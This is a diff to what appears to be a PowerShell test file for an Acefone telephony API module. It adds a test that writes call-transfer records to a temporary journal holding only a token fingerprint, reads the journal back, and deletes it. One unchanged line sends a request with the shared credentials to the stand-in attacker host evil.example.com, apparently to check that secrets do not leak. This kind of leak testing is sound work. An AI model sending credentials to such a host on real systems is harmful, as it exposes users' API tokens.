@@ -37,6 +37,17 @@ BeforeAll {
             Invoke-AcefoneRestMethod https://evil.example.com/v1/users @common
         }
         'Get-AcefoneCallRecord'    = { Get-AcefoneCallRecord -From (Get-Date).AddHours(-6) @common | Select-Object -First 3 }
+        # Issue 21/24: a journal records the run's target (a token's fingerprint, never the token) and is read back.
+        'Get-AcefoneJournal'       = {
+            $journal = Join-Path ([IO.Path]::GetTempPath()) "acefone-secrets-journal-$PID.jsonl"
+            try {
+                $live[8..9] | ForEach-Object { [pscustomobject]@{ call_id = $_; intercom = '8004' } } | Invoke-AcefoneTransfer -JournalPath $journal @common
+                $live[8..9] | ForEach-Object { [pscustomobject]@{ call_id = $_; intercom = '8005' } } | Invoke-AcefoneTransfer -JournalPath $journal @common
+                Get-AcefoneJournal -Path $journal @common | Format-List * | Out-String
+                Get-Content -Raw $journal
+            }
+            finally { Remove-Item $journal -ErrorAction SilentlyContinue }
+        }
         'Save-AcefoneRecording'    = {
             $folder = Join-Path ([IO.Path]::GetTempPath()) "acefone-secrets-rec-$PID"
             try { Get-AcefoneCallRecord -From (Get-Date).AddDays(-1) -Status Answered | Where-Object HasRecording | Select-Object -First 2 | Save-AcefoneRecording -Destination $folder @common }
